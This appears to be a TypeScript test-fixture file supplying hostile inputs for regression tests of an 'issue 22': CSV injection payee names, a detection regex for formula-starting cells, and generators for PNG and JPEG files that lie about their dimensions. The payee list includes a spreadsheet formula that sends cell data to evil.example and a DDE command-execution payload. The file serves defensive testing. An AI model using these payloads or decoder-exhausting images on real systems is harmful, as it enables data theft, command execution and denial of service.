import { deflateSync } from 'node:zlib';
import { pngChunk } from './hostile-images.ts';

// Inputs of issue 22 shared by several tests.

/** The payee names of issue 22 that used to reach the positive pay CSV as live formulas. */
export const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-1+1',
];

/**
 * What a spreadsheet evaluates at the start of a cell (OWASP "CSV Injection": =, +, -, @, tab, CR;
 * NUL as ASVS adds), with the full-width signs. Typed in here, not imported from the writer.
 */
export const FORMULA_START = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;

// ---- Images that lie about themselves (issue 22's table) ----

function ihdr(width: number, height: number, bitDepth: number, colorType: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([bitDepth, colorType, 0, 0, 0], 8);
  return pngChunk('IHDR', data);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A valid 1×1 RGBA pixel's compressed data: one filter byte and four samples. */
function onePixel(bytesPerPixel: number): Buffer {
  return deflateSync(Buffer.alloc(1 + bytesPerPixel));
}

/** The issue's 93-byte PNG: an IHDR of 1×1, then a second IHDR of 12000×12000 RGBA. */
export function pngTwoHeaders(): Buffer {
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(1, 1, 8, 6),
    ihdr(12_000, 12_000, 8, 6),
    pngChunk('IDAT', onePixel(4)),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

/** A 16-bit RGBA PNG of `width` × `height` (the depth the old decoder stored undecoded). */
export function png16Bit(width: number, height: number): Buffer {
  const row = Buffer.alloc(1 + width * 8, 0x40);
  row[0] = 0;
  const raw = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(width, height, 16, 6),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', new Uint8Array(0)),
  ]);
}

/** The issue's 41-byte JPEG: a frame header declaring 65535×65535 and no image data. */
export function jpegClaiming(width = 65_535, height = 65_535): Buffer {
  const sof = Buffer.from([
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    (height >> 8) & 0xff,
    height & 0xff,
    (width >> 8) & 0xff,
    width & 0xff,
    0x03,
    0x01,
    0x22,
    0x00,
    0x02,
    0x11,
    0x01,
    0x03,
    0x11,
    0x01,
  ]);
  const app0 = Buffer.from([
    0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
  ]);
  // SOI (2) + APP0 (18) + SOF0 (19) + EOI (2) = 41 bytes.
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.from([0xff, 0xd9])]);
}

// ---- Multipart bodies ----

export const BOUNDARY = '----hostileboundary7MA4YWxkTrZu0gW';

/** One form-data part. */
export function formPart(name: string, value: string | Buffer, file?: { filename: string; type: string }): Buffer {
  const disposition = `Content-Disposition: form-data; name="${name}"${file === undefined ? '' : `; filename="${file.filename}"\r\nContent-Type: ${file.type}`}`;
  return Buffer.concat([
    Buffer.from(`--${BOUNDARY}\r\n${disposition}\r\n\r\n`),
    Buffer.from(value),
    Buffer.from('\r\n'),
  ]);
}

/** The closing boundary of a form-data body. */
export const FORM_END = Buffer.from(`--${BOUNDARY}--\r\n`);
export const FORM_TYPE = `multipart/form-data; boundary=${BOUNDARY}`;
